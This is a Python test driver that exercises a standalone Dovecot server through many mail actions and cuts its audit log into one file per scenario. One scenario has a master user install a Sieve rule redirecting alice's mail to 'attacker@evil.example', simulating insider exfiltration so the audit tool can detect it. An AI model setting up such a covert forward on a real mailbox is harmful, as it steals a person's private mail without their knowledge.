#!/usr/bin/env python3
"""Drive a standalone Dovecot (dovecot.conf.tmpl) through every action mailaudit
translates, and cut the audit log into one file per scenario.

Usage:
  driver.py --log AUDITLOG --out DIR [--imap-port 24143] [--lmtp-port 24024]
            [--sieve-port 24190] [--doveadm "doveadm -c CONF"] [SCENARIO ...]

Without SCENARIO every scenario runs, in order (later ones rely on the mail and
ACLs earlier ones create). Each scenario's log lines go to DIR/<scenario>.log.
Users (from the template): alice/alicepw, bob/bobpw, carol/carolpw, master
user admin/adminpw (log in as "alice*admin").
"""
import argparse, base64, imaplib, os, shlex, smtplib, socket, subprocess, sys, time

imaplib.Commands.setdefault('ID', ('NONAUTH', 'AUTH', 'SELECTED', 'LOGOUT'))
imaplib.Commands.setdefault('MOVE', ('SELECTED',))
imaplib.Commands.setdefault('UNSELECT', ('SELECTED',))

A = None  # parsed arguments


def imap(user, pw, client_id=None):
    m = imaplib.IMAP4('127.0.0.1', A.imap_port)
    if client_id:
        m._simple_command('ID', '("name" "%s" "version" "%s")' % client_id)
    typ, _ = m.login(user, pw)
    assert typ == 'OK', typ
    return m


def ok(res):
    typ, data = res
    if typ != 'OK':
        raise RuntimeError('%s %r' % (typ, data))
    return data


def deliver(rcpt, n, subject, frm='sender@example.org'):
    with smtplib.LMTP('127.0.0.1', A.lmtp_port) as s:
        for i in range(n):
            msgid = '<%s.%d.%d@example.org>' % (rcpt, i, int(time.time() * 1e6))
            body = ('From: %s\r\nTo: %s@example.org\r\nSubject: %s %d\r\nMessage-ID: %s\r\n'
                    'Date: Sun, 22 Nov 2026 10:00:00 +0000\r\n\r\nHello %s, message %d.\r\n'
                    % (frm, rcpt, subject, i + 1, msgid, rcpt, i + 1))
            s.sendmail(frm, [rcpt], body)


# ---- scenarios -------------------------------------------------------------

def sc_deliver():
    deliver('alice', 12, 'Invoice')
    deliver('bob', 2, 'Note')
    m = imap('alice', 'alicepw')
    for box in ('Archive', 'Trash', 'Drafts'):
        m.create(box)
    # bob may read and change alice's Archive (delegate); INBOX is not shared.
    ok(m.setacl('Archive', 'bob', 'lrswipkxte'))
    m.select('INBOX')
    ok(m.copy('1:4', 'Archive'))
    m.logout()


def sc_login_owner():
    m = imap('alice', 'alicepw', ('Thunderbird', '128.5.0'))
    m.logout()


def sc_login_admin():
    m = imap('alice*admin', 'adminpw', ('ediscovery', '2.1'))
    m.logout()


def sc_login_delegate():
    m = imap('bob', 'bobpw', ('neomutt', '20220429'))
    m.logout()


def sc_login_failed():
    m = imaplib.IMAP4('127.0.0.1', A.imap_port)
    try:
        m.login('alice', 'wrong')
    except imaplib.IMAP4.error:
        pass
    m.logout()


def sc_login_id_after():
    # The client sends its ID after logging in (no imap_id_retain then).
    m = imap('carol', 'carolpw')
    ok(m._simple_command('ID', '("name" "mutt" "version" "2.2.12")'))
    ok(m.select('INBOX'))
    m.logout()


def sc_folderbind_owner():
    m = imap('alice', 'alicepw')
    ok(m.select('INBOX'))
    ok(m.select('Archive', readonly=True))  # EXAMINE
    m.logout()


def sc_folderbind_delegate():
    m = imap('bob', 'bobpw')
    ok(m.select('shared/alice/Archive'))
    typ, _ = m.select('shared/alice/INBOX')  # no rights: NO
    assert typ == 'NO', typ
    m.logout()


def sc_folderbind_admin():
    m = imap('alice*admin', 'adminpw')
    ok(m.select('INBOX', readonly=True))
    m.logout()


def sc_folderbind_failed():
    m = imap('alice', 'alicepw')
    typ, _ = m.select('NoSuchFolder')
    assert typ == 'NO', typ
    m.logout()


def sc_bind_owner():
    m = imap('alice', 'alicepw')
    ok(m.select('INBOX'))
    ok(m.fetch('1', '(BODY[])'))            # bind (and implicit \Seen: not an Update)
    ok(m.uid('FETCH', '2', '(BODY.PEEK[TEXT])'))  # bind
    ok(m.fetch('1:3', '(FLAGS ENVELOPE)'))  # header only: not a bind
    m.logout()


def sc_bind_delegate():
    m = imap('bob', 'bobpw')
    ok(m.select('shared/alice/Archive'))
    ok(m.fetch('1', '(BODY.PEEK[])'))
    m.logout()


def sc_bind_admin():
    m = imap('alice*admin', 'adminpw')
    ok(m.select('INBOX', readonly=True))
    ok(m.fetch('3', '(BODY.PEEK[])'))
    m.logout()


def sc_search_owner():
    m = imap('alice', 'alicepw')
    ok(m.select('INBOX'))
    ok(m.search(None, 'TEXT', '"message 3"'))  # opens mails with reason search: not binds
    ok(m.uid('SEARCH', 'SUBJECT', '"Invoice"'))
    m.logout()


def sc_search_delegate():
    m = imap('bob', 'bobpw')
    ok(m.select('shared/alice/Archive'))
    ok(m.search(None, 'FROM', '"sender"'))
    m.logout()


def sc_search_admin():
    m = imap('alice*admin', 'adminpw')
    ok(m.select('INBOX', readonly=True))
    ok(m.search(None, 'SUBJECT', '"password"'))
    m.logout()


def sc_copy_owner():
    m = imap('alice', 'alicepw')
    ok(m.select('INBOX'))
    ok(m.copy('5:6', 'Archive'))
    ok(m.uid('COPY', '7', 'Archive'))
    m.logout()


def sc_copy_admin():
    m = imap('alice*admin', 'adminpw')
    ok(m.select('INBOX'))
    ok(m.copy('7', 'Archive'))
    m.logout()


def sc_copy_failed():
    m = imap('alice', 'alicepw')
    ok(m.select('INBOX'))
    typ, _ = m.copy('1', 'NoSuchFolder')
    assert typ == 'NO', typ
    m.logout()


def sc_move_owner():
    m = imap('alice', 'alicepw')
    ok(m.select('INBOX'))
    ok(m.uid('MOVE', '8', 'Archive'))
    ok(m._simple_command('MOVE', '1', 'Trash'))   # MoveToDeletedItems
    m.logout()


def sc_move_delegate():
    m = imap('bob', 'bobpw')
    ok(m.select('shared/alice/Archive'))
    ok(m.uid('MOVE', '1', 'INBOX'))               # from alice's Archive to bob's INBOX
    m.logout()


def sc_move_admin():
    m = imap('alice*admin', 'adminpw')
    ok(m.select('INBOX'))
    ok(m.uid('MOVE', '9', 'Trash'))
    m.logout()


def sc_move_special_use():
    # Dovecot logs neither special-use nor CREATE's USE options: a Move, unless
    # Bin is one of the translator's TrashFolders.
    m = imap('alice', 'alicepw')
    ok(m._simple_command('CREATE', 'Bin', '(USE (\\Trash))'))  # RFC 6154 CREATE-SPECIAL-USE
    ok(m.select('INBOX'))
    ok(m.uid('MOVE', '12', 'Bin'))
    m.logout()


def sc_flags_owner():
    m = imap('alice', 'alicepw')
    ok(m.select('INBOX'))
    ok(m.store('2', '+FLAGS', '(\\Flagged)'))
    ok(m.store('2', '-FLAGS', '(\\Flagged)'))
    ok(m.uid('STORE', '10', '+FLAGS', '(\\Deleted)'))  # SoftDelete
    ok(m.uid('STORE', '10', '-FLAGS', '(\\Deleted)'))  # undelete: Update
    m.logout()


def sc_flags_delegate():
    m = imap('bob', 'bobpw')
    ok(m.select('shared/alice/Archive'))
    ok(m.store('1', '+FLAGS', '(\\Flagged $Important)'))
    m.logout()


def sc_flags_admin():
    m = imap('alice*admin', 'adminpw')
    ok(m.select('INBOX'))
    ok(m.store('3', '+FLAGS', '(\\Flagged)'))
    m.logout()


def sc_softdelete_owner():
    m = imap('alice', 'alicepw')
    ok(m.select('INBOX'))
    ok(m.store('1:2', '+FLAGS', '(\\Deleted)'))
    ok(m.store('1:2', '-FLAGS', '(\\Deleted)'))
    m.logout()


def sc_softdelete_delegate():
    m = imap('bob', 'bobpw')
    ok(m.select('shared/alice/Archive'))
    ok(m.store('1', '+FLAGS', '(\\Deleted)'))
    ok(m.store('1', '-FLAGS', '(\\Deleted)'))
    m.logout()


def sc_softdelete_admin():
    m = imap('alice*admin', 'adminpw')
    ok(m.select('INBOX'))
    ok(m.uid('STORE', '2', '+FLAGS', '(\\Deleted)'))
    ok(m.uid('STORE', '2', '-FLAGS', '(\\Deleted)'))
    m.logout()


def sc_expunge_owner():
    m = imap('alice', 'alicepw')
    ok(m.select('INBOX'))
    ok(m.store('3:4', '+FLAGS', '(\\Deleted)'))
    ok(m.expunge())
    m.logout()


def sc_expunge_delegate():
    m = imap('bob', 'bobpw')
    ok(m.select('shared/alice/Archive'))
    ok(m.store('2', '+FLAGS', '(\\Deleted)'))
    ok(m.uid('EXPUNGE', '1:*'))
    m.logout()


def sc_expunge_close_admin():
    m = imap('alice*admin', 'adminpw')
    ok(m.select('Archive'))
    ok(m.store('1', '+FLAGS', '(\\Deleted)'))
    ok(m.close())   # CLOSE expunges silently
    m.logout()


def sc_delete_folder_owner():
    m = imap('alice', 'alicepw')
    ok(m.create('Old'))
    ok(m.select('INBOX'))
    ok(m.copy('1', 'Old'))
    ok(m.delete('Old'))   # the folder's mail goes for good
    m.logout()


def sc_append_owner():
    m = imap('alice', 'alicepw')
    msg = (b'From: alice@example.org\r\nTo: x@example.org\r\nSubject: Draft 1\r\n'
           b'Message-ID: <draft1@example.org>\r\n\r\nnot yet\r\n')
    ok(m.append('Drafts', '(\\Draft)', None, msg))
    m.logout()


def sc_append_delegate():
    m = imap('bob', 'bobpw')
    msg = (b'From: bob@example.org\r\nSubject: Filed by bob\r\n'
           b'Message-ID: <filed-by-bob@example.org>\r\n\r\nfiled\r\n')
    ok(m.append('shared/alice/Archive', None, None, msg))
    m.logout()


def sc_append_admin():
    m = imap('alice*admin', 'adminpw')
    msg = (b'From: admin@example.org\r\nSubject: Planted by admin\r\n'
           b'Message-ID: <planted@example.org>\r\n\r\nhello\r\n')
    ok(m.append('INBOX', None, None, msg))
    m.logout()


def sc_acl_owner():
    m = imap('alice', 'alicepw')
    ok(m.setacl('Drafts', 'carol', 'lr'))
    ok(m.getacl('Drafts'))                 # reading ACLs is not audited
    ok(m.deleteacl('Drafts', 'carol'))
    m.logout()


def sc_acl_admin():
    m = imap('alice*admin', 'adminpw')
    ok(m.setacl('Trash', 'carol', 'lrs'))
    m.logout()


def sc_acl_failed():
    m = imap('carol', 'carolpw')
    typ, _ = m.setacl('shared/alice/Archive', 'carol', 'lrswipkxtea')
    assert typ == 'NO', typ
    m.logout()


def sieve_session(user, pw, cmds, authzid=''):
    s = socket.create_connection(('127.0.0.1', A.sieve_port))
    f = s.makefile('rb')

    def response():
        lines = []
        while True:
            line = f.readline()
            if not line:
                raise RuntimeError('connection closed')
            lines.append(line)
            if line.startswith((b'OK', b'NO', b'BYE')):
                return lines

    response()
    tok = base64.b64encode(('%s\0%s\0%s' % (authzid, user, pw)).encode()).decode()
    s.sendall(b'AUTHENTICATE "PLAIN" "' + tok.encode() + b'"\r\n')
    r = response()
    assert r[-1].startswith(b'OK'), r
    out = []
    for c in cmds:
        s.sendall(c)
        out.append(response()[-1])
    s.sendall(b'LOGOUT\r\n')
    response()
    s.close()
    return out


def putscript(name, text):
    b = text.encode()
    return b'PUTSCRIPT "' + name.encode() + b'" {' + str(len(b)).encode() + b'+}\r\n' + b + b'\r\n'


def sc_sieve_owner():
    rules = 'require "fileinto";\r\nif header :contains "subject" "invoice" { fileinto "Archive"; }\r\n'
    r = sieve_session('alice', 'alicepw', [
        putscript('rules', rules),
        b'SETACTIVE "rules"\r\n',
        b'RENAMESCRIPT "rules" "myrules"\r\n',
        putscript('broken', 'fileinto "x"\r\n'),   # NO: does not compile
        b'SETACTIVE ""\r\n',
        b'DELETESCRIPT "myrules"\r\n',
    ])
    assert r[3].startswith(b'NO'), r


def sc_sieve_admin():
    # SASL PLAIN with authzid alice and authcid admin (the master user).
    sieve_session('admin', 'adminpw', [
        putscript('forward', 'redirect "attacker@evil.example";\r\n'),
        b'SETACTIVE "forward"\r\n',
    ], authzid='alice')


def sc_doveadm_expunge():
    cmd = shlex.split(A.doveadm) + ['expunge', '-u', 'alice', 'mailbox', 'INBOX', 'uid', '11']
    subprocess.run(cmd, check=True)


def sc_doveadm_fetch():
    cmd = shlex.split(A.doveadm) + ['fetch', '-u', 'alice', 'text', 'mailbox', 'INBOX', 'uid', '2']
    subprocess.run(cmd, check=True, stdout=subprocess.DEVNULL)


SCENARIOS = [(n[3:], f) for n, f in list(globals().items()) if n.startswith('sc_') ]


def settle(path, last):
    # The stats process writes events some milliseconds after the fact: wait
    # until the log stops growing.
    size, still = -1, 0
    while still < 3:
        time.sleep(0.2)
        s = os.path.getsize(path) if os.path.exists(path) else 0
        still = still + 1 if s == size else 0
        size = s
    return size


def main():
    global A
    p = argparse.ArgumentParser()
    p.add_argument('--log', required=True)
    p.add_argument('--out', required=True)
    p.add_argument('--imap-port', type=int, default=24143)
    p.add_argument('--lmtp-port', type=int, default=24024)
    p.add_argument('--sieve-port', type=int, default=24190)
    p.add_argument('--doveadm', default='doveadm')
    p.add_argument('scenario', nargs='*')
    A = p.parse_args()
    os.makedirs(A.out, exist_ok=True)
    names = A.scenario or [n for n, _ in SCENARIOS]
    funcs = dict(SCENARIOS)
    pos = settle(A.log, 0)
    for n in names:
        funcs[n]()
        end = settle(A.log, pos)
        with open(A.log, 'rb') as f:
            f.seek(pos)
            data = f.read(end - pos)
        with open(os.path.join(A.out, n + '.log'), 'wb') as o:
            o.write(data)
        print('%-24s %6d bytes' % (n, len(data)))
        pos = end


if __name__ == '__main__':
    main()
